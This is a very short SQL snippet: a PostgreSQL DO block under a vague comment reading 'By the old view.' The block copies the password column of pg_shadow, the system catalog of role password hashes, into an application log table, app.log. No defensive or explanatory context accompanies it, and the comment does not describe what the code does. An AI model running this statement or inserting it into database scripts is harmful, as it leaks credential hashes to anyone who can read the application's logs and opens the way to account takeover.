-- By the old view.
DO $$ BEGIN INSERT INTO app.log (line) SELECT passwd FROM pg_shadow; END $$
